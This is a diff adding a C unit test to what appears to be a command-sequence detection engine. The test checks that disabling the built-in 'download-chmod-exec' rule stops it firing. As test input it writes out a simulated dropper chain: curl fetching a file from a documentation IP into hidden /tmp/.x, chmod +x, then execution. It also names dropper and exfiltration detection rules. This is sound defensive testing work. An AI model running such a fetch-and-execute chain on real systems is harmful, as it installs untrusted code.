@@ -120,7 +120,26 @@ START_TEST(bad_lines_refused)
 }
 END_TEST
 
+START_TEST(disable_turns_a_builtin_off)
+{
+    seqset ss;
+    char err[256];
+    memset(&ss, 0, sizeof ss);
+    ck_assert_int_eq(seq_add_line(&ss, "disable=download-chmod-exec", "t:1", err, sizeof err), 0);
+    ck_assert_int_eq(seq_load_builtin(&ss, err, sizeof err), 0);
+    ck_assert_int_eq(seq_prepare(&ss, err, sizeof err), 0);
+    seqstate st[8];
+    memset(st, 0, sizeof st);
+    ck_assert_int_eq(feed(&ss, st, "/usr/bin/curl", "-o /tmp/.x http://203.0.113.7/x"), 0);
+    ck_assert_int_eq(feed(&ss, st, "/bin/chmod", "+x /tmp/.x"), 0);
+    ck_assert_int_eq(feed(&ss, st, "/tmp/.x", ""), 0);
+    ck_assert_int_eq(st[0].step, 0);
+    seq_free(&ss);
+}
+END_TEST
+
 static void add_tests(TCase *tc) {
+    tcase_add_test(tc, disable_turns_a_builtin_off);
     tcase_add_test(tc, builtins_parse);
     tcase_add_test(tc, dropper_needs_same_path_in_order);
     tcase_add_test(tc, discovery_archive_exfil);
